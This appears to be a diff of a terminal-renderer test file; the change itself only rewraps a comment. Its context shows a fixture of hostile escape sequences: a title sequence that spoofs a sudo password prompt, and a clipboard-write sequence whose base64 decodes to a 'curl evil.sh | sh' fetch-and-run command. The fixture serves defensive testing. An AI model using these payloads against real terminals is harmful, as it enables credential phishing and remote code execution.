@@ -9,8 +9,9 @@ afterEach(() => {
   for (const term of opened.splice(0)) term.dispose();
 });
 
-// What a hostile pane prints to attack the person watching it, one attack a row. The frame carries them raw, as
-// a forged frame or a frame builder with a bug would: the painter must not trust that frames are sanitized.
+// What a hostile pane prints to attack the person watching it, one attack a row. The frame carries them raw,
+// as a forged frame or a frame builder with a bug would: the painter must not trust that frames are
+// sanitized.
 const ATTACKS = {
   title: "\x1b]0;[sudo] password for root:\x07\x1b]2;pwned\x1b\\",
   clipboard: "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
